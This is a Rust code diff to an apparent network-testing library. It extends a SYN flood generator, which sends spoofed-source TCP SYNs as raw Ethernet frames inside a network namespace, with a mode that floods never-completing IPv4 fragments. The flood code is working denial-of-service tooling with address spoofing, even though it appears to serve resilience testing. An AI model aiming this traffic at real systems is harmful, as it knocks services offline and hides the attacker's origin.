@@ -1,5 +1,6 @@
-//! A SYN flood: TCP SYNs from spoofed IPv4 sources, written as raw Ethernet frames on an
-//! interface as fast as it takes them, bounded in count and in time.
+//! A flood from spoofed IPv4 sources, written as raw Ethernet frames on an interface as fast
+//! as it takes them, bounded in count and in time: TCP SYNs, or (with
+//! [`SynFloodBuilder::fragments`]) IPv4 fragments of datagrams that never complete.
 //!
 //! ```no_run
 //! use std::time::Duration;
@@ -33,6 +34,8 @@ pub struct SynFloodBuilder {
     packets: u64,
     duration: Duration,
     seed: u64,
+    /// Send fragments of this many bytes instead of SYNs.
+    fragments: Option<usize>,
 }
 
 impl SynFloodBuilder {
@@ -57,6 +60,15 @@ impl SynFloodBuilder {
         self
     }
 
+    /// Sends IPv4 fragments instead of SYNs: each a middle piece (offset past zero, more
+    /// fragments set) of `size` bytes (rounded to a multiple of 8, 8..=1472) of a UDP datagram
+    /// with a fresh identification, so none ever completes and a receiver must hold or drop
+    /// each one.
+    pub fn fragments(mut self, size: usize) -> Self {
+        self.fragments = Some(size.clamp(8, 1472) & !7);
+        self
+    }
+
     /// Starts the flood from `ifname` in `ns`.
     pub fn start(self, ns: &Netns, ifname: &str) -> Result<SynFlood> {
         let src_mac = ns.mac(ifname)?;
@@ -75,7 +87,7 @@ impl SynFloodBuilder {
 
     fn run(&self, sock: &PacketSocket, src_mac: [u8; 6], stop: &AtomicBool) -> FloodReport {
         let mut rng = self.seed;
-        let mut frame = [0u8; 58];
+        let mut frame = vec![0u8; 58.max(34 + self.fragments.unwrap_or(0))];
         let host_bits = 32 - u32::from(self.prefix);
         let mask = if host_bits == 32 {
             u32::MAX
@@ -93,16 +105,27 @@ impl SynFloodBuilder {
             let r = xorshift(&mut rng);
             let src = Ipv4Addr::from(net | ((r as u32) & mask).max(1));
             let port = ((r >> 32) as u16).max(1024);
-            syn_frame(
-                &mut frame,
-                src_mac,
-                self.target_mac,
-                src,
-                port,
-                self.target,
-                (r >> 16) as u32,
-            );
-            match sock.send(&frame) {
+            let frame = match self.fragments {
+                Some(size) => {
+                    let f = &mut frame[..34 + size];
+                    frag_frame(f, src_mac, self.target_mac, src, *self.target.ip(), r);
+                    &*f
+                }
+                None => {
+                    let f = &mut frame[..58];
+                    syn_frame(
+                        f,
+                        src_mac,
+                        self.target_mac,
+                        src,
+                        port,
+                        self.target,
+                        (r >> 16) as u32,
+                    );
+                    &*f
+                }
+            };
+            match sock.send(frame) {
                 Ok(true) => report.sent += 1,
                 Ok(false) => {
                     report.refused += 1;
@@ -155,6 +178,7 @@ impl SynFlood {
             packets: 100_000,
             duration: Duration::from_secs(1),
             seed: 1,
+            fragments: None,
         }
     }
 
@@ -209,9 +233,38 @@ fn fold(mut acc: u32) -> u16 {
     !(acc as u16)
 }
 
+/// Writes an Ethernet + IPv4 frame (the whole of `f`) that is a middle fragment of a UDP
+/// datagram: identification and offset from `r`, more fragments set.
+fn frag_frame(
+    f: &mut [u8],
+    src_mac: [u8; 6],
+    dst_mac: [u8; 6],
+    src: Ipv4Addr,
+    dst: Ipv4Addr,
+    r: u64,
+) {
+    f[0..6].copy_from_slice(&dst_mac);
+    f[6..12].copy_from_slice(&src_mac);
+    f[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
+    let total = (f.len() - 14) as u16;
+    let offset = ((r >> 20) as u16 % 7000).max(1);
+    let ip = &mut f[14..34];
+    ip.fill(0);
+    ip[0] = 0x45;
+    ip[2..4].copy_from_slice(&total.to_be_bytes());
+    ip[4..6].copy_from_slice(&((r >> 40) as u16).to_be_bytes());
+    ip[6..8].copy_from_slice(&(0x2000 | offset).to_be_bytes());
+    ip[8] = 64;
+    ip[9] = 17;
+    ip[12..16].copy_from_slice(&src.octets());
+    ip[16..20].copy_from_slice(&dst.octets());
+    let c = fold(sum16(ip, 0));
+    ip[10..12].copy_from_slice(&c.to_be_bytes());
+}
+
 /// Writes a 58-byte Ethernet + IPv4 + TCP SYN (with a 1460-byte MSS option) into `f`.
 fn syn_frame(
-    f: &mut [u8; 58],
+    f: &mut [u8],
     src_mac: [u8; 6],
     dst_mac: [u8; 6],
     src: Ipv4Addr,
